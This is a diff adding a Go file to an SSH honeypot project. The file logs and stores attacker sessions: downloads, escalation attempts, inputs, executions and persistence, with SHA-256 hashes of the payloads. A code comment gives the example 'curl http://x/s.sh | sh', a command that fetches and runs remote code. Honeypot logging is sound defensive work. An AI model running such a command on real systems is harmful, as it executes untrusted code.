@@ -0,0 +1,122 @@
+package core
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"log"
+
+	"github.com/wisepythagoras/honeyshell/plugin"
+)
+
+// recordEvent logs the events of the sessions and saves them in the database.
+func (server *SSHServer) recordEvent(s *plugin.Session, event plugin.Event) {
+	switch ev := event.(type) {
+	case *plugin.DownloadEvent:
+		headers, _ := json.Marshal(ev.Headers)
+		sha256Hex := ""
+
+		// Files that were saved to the VFS are already in the artifact store, but the ones that were
+		// only printed to the terminal (e.g. `curl http://x/s.sh | sh`) still need to be kept.
+		if ev.Fetched {
+			sum := sha256.Sum256(ev.Data)
+			sha256Hex = hex.EncodeToString(sum[:])
+
+			if ev.Path == "" && server.Artifacts != nil {
+				if _, err := server.Artifacts.Save(s.ID, s.IP, ev.URL, plugin.ArtifactSourceDownload, ev.Data); err != nil {
+					log.Println("Unable to save artifact", ev.URL, err)
+					server.Logger.Println("Unable to save artifact", ev.URL, err)
+				}
+			}
+		}
+
+		server.Logger.Printf("%s %s download:%s %s -> %q (fetched: %t)\n", s.IP, ev.Command, ev.Method, ev.URL, ev.Path, ev.Fetched)
+		log.Printf("%s %s download:%s %s -> %q (fetched: %t)\n", s.IP, ev.Command, ev.Method, ev.URL, ev.Path, ev.Fetched)
+
+		if server.db != nil {
+			server.db.Create(&Download{
+				Session:   s.ID,
+				IPAddress: s.IP,
+				Command:   ev.Command,
+				URL:       ev.URL,
+				Method:    ev.Method,
+				Headers:   string(headers),
+				Body:      ev.Body,
+				Path:      ev.Path,
+				Size:      ev.Size,
+				Fetched:   ev.Fetched,
+				SHA256:    sha256Hex,
+			})
+		}
+	case *plugin.EscalationEvent:
+		server.Logger.Printf("%s %s %s -> %s pass:%s (accepted: %t)\n", s.IP, ev.Command, ev.Username, ev.Target, ev.Password, ev.Accepted)
+		log.Printf("%s %s %s -> %s pass:%s (accepted: %t)\n", s.IP, ev.Command, ev.Username, ev.Target, ev.Password, ev.Accepted)
+
+		if server.db != nil {
+			server.db.Create(&Escalation{
+				Session:   s.ID,
+				IPAddress: s.IP,
+				Command:   ev.Command,
+				Username:  ev.Username,
+				Target:    ev.Target,
+				Password:  ev.Password,
+				Accepted:  ev.Accepted,
+			})
+		}
+	case *plugin.InputEvent:
+		server.Logger.Printf("%s %s input:%s %q -> %q\n", s.IP, ev.Command, ev.Mode, ev.Prompt, ev.Input)
+		log.Printf("%s %s input:%s %q -> %q\n", s.IP, ev.Command, ev.Mode, ev.Prompt, ev.Input)
+
+		if server.db != nil {
+			server.db.Create(&Input{
+				Session:   s.ID,
+				IPAddress: s.IP,
+				Command:   ev.Command,
+				Prompt:    ev.Prompt,
+				Input:     ev.Input,
+				Mode:      ev.Mode,
+			})
+		}
+	case *plugin.ExecutionEvent:
+		args, _ := json.Marshal(ev.Args)
+		sha256Hex := ""
+
+		if len(ev.Data) > 0 {
+			sum := sha256.Sum256(ev.Data)
+			sha256Hex = hex.EncodeToString(sum[:])
+		}
+
+		server.Logger.Printf("%s exec:%s %q (%s, background: %t, sha256: %s)\n", s.IP, ev.Path, ev.Args, ev.Format, ev.Background, sha256Hex)
+		log.Printf("%s exec:%s %q (%s, background: %t, sha256: %s)\n", s.IP, ev.Path, ev.Args, ev.Format, ev.Background, sha256Hex)
+
+		if server.db != nil {
+			server.db.Create(&Execution{
+				Session:    s.ID,
+				IPAddress:  s.IP,
+				Path:       ev.Path,
+				Args:       string(args),
+				Format:     ev.Format,
+				Background: ev.Background,
+				SHA256:     sha256Hex,
+			})
+		}
+	case *plugin.PersistenceEvent:
+		sum := sha256.Sum256(ev.Data)
+		sha256Hex := hex.EncodeToString(sum[:])
+
+		server.Logger.Printf("%s %s persistence:%s %s (sha256: %s)\n", s.IP, ev.Command, ev.Mechanism, ev.Path, sha256Hex)
+		log.Printf("%s %s persistence:%s %s (sha256: %s)\n", s.IP, ev.Command, ev.Mechanism, ev.Path, sha256Hex)
+
+		if server.db != nil {
+			server.db.Create(&Persistence{
+				Session:   s.ID,
+				IPAddress: s.IP,
+				Command:   ev.Command,
+				Mechanism: ev.Mechanism,
+				Path:      ev.Path,
+				Data:      string(ev.Data),
+				SHA256:    sha256Hex,
+			})
+		}
+	}
+}